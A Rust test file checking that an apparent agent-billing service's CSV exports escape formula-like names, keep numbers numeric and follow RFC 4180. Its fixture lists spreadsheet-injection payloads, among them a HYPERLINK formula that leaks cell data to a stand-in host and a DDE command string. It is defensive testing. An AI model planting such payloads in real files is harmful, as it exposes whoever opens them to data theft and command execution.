//! Nothing that somebody named is calculated by whoever opens the file, and numbers stay numbers.

use chrono::TimeDelta;
use roundtrip::{
    agents::{self, NewAgent},
    billing::{self, Credit, LedgerKind},
    graphql::{Kind, encode_id},
    tenants::Visibility,
};

use super::File;
use crate::support::{Call, TestApp, World};

/// Names, and how they stand in the file's text.
const NAMES: [(&str, &str); 9] = [
    ("=1+1", "'=1+1"),
    ("+49 30 1234", "'+49 30 1234"),
    ("-1", "'-1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t'=1"),
    ("\r=1", "\"'\r'=1\""),
    (
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"pay\")",
        "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"pay\"\")\"",
    ),
    ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
    ("plain, \"quoted\"\nÆ", "\"plain, \"\"quoted\"\"\nÆ\""),
];

async fn agent(app: &TestApp, alice: &World, handle: &str, name: &str) -> agents::AgentRow {
    let new = NewAgent {
        tenant: alice.tenant.id,
        handle: handle.to_owned(),
        name: name.to_owned(),
        framework: Some(name.to_owned()),
        visibility: Visibility::Public,
        public_key_ed25519: None,
        created_at: alice.tenant.created_at,
    };
    let tx = app.app.databases.begin().await.unwrap();
    let row = agents::insert(&tx, new).await.unwrap();
    tx.commit().await.unwrap();
    row
}

#[tokio::test]
async fn a_name_that_is_a_formula_is_a_text_in_every_file() {
    let app = TestApp::new().await;
    let alice = World::new(&app, "alice").await;
    for (place, (name, shown)) in NAMES.iter().enumerate() {
        let agent = agent(&app, &alice, &format!("=b{place}"), name).await;
        let at = app.now - TimeDelta::minutes(30);
        alice.record(&app, &[Call::paid(&agent, at, 5)]).await;
        let id = encode_id(Kind::Agent, agent.id);

        let (sent, handle) = (format!("%3Db{place}"), format!("'=b{place}"));
        for (path, cells) in [
            (
                format!("agents.csv?search={sent}"),
                format!(",{handle},{shown},{shown},ACTIVE,"),
            ),
            (
                format!("audit.csv?agent={sent}"),
                format!(",{handle},{shown},0,"),
            ),
            (
                format!(
                    "usage.csv?preset=LAST_24H&granularity=TOTAL&group_by=AGENT&agent_ids={}",
                    *id
                ),
                format!(",{},{shown},1,1,", *id),
            ),
        ] {
            let file = File::get(&app, Some(&alice.key), &path).await;
            assert!(
                file.text.contains(&cells),
                "{name:?}: {cells}: {}",
                file.text
            );
            assert_eq!(file.rows.len(), 1, "{path}");
        }
        let public = File::get(&app, None, "audit.csv?of=public").await;
        assert!(
            public.text.contains(&format!(",alice,{shown},0,")),
            "{}",
            public.text
        );
    }
}

#[tokio::test]
async fn a_debit_stays_a_number_and_its_memo_does_not_become_one() {
    let app = TestApp::new().await;
    let alice = World::new(&app, "alice").await;
    let agent = alice.agent(&app, "mail-bot").await;
    let wallet = alice.wallet(&app, None, 1).await;
    let tx = app.app.databases.begin().await.unwrap();
    let credit = Credit {
        wallet,
        kind: LedgerKind::Adjustment,
        amount_nanos: -1_500_000_000,
        memo: Some("-1.5"),
        at: app.now - TimeDelta::hours(2),
    };
    billing::credit(&tx, &alice.tenant, credit).await.unwrap();
    tx.commit().await.unwrap();
    let at = app.now - TimeDelta::hours(1);
    alice.record(&app, &[Call::paid(&agent, at, 7)]).await;

    let path = format!("ledger.csv?wallet={}", *encode_id(Kind::Wallet, wallet));
    let file = File::get(&app, Some(&alice.key), &path).await;

    assert_eq!(file.column("kind"), ["DEBIT", "ADJUSTMENT", "TOPUP"]);
    assert_eq!(file.column("amount_usd"), ["-0.000000007", "-1.5", "1"]);
    assert_eq!(
        file.column("balance_after_usd"),
        ["-0.500000007", "-0.5", "1"]
    );
    assert_eq!(file.column("memo"), ["", "'-1.5", "First top-up"]);
}

#[tokio::test]
async fn lines_are_those_of_rfc_4180() {
    let app = TestApp::new().await;
    let alice = World::new(&app, "alice").await;
    alice.agents(&app, &["one", "two"]).await;

    let file = File::get(&app, Some(&alice.key), "agents.csv?order=NAME").await;

    let lines: Vec<&str> = file.text.split("\r\n").collect();
    assert_eq!(lines.len(), 4, "three lines, each with its end");
    assert_eq!(lines[3], "");
    assert_eq!(
        lines[0],
        "id,handle,name,framework,status,visibility,canonical_uri,created_at,archived_at,last_active_at,audit_events,\
         per_call_cap_usd,daily_cap_usd,spent_today_usd,monthly_cap_usd,spent_this_month_usd,wallet_id,\
         wallet_balance_usd"
    );
    let (_, rest) = lines[1].split_once(',').unwrap();
    assert_eq!(
        rest,
        "one,Agent one,,ACTIVE,PUBLIC,agent://alice/one,2026-01-09T12:07:30.000000Z,,,0,,,0,,0,,"
    );
    assert!(!file.text.contains('\u{feff}'));
}
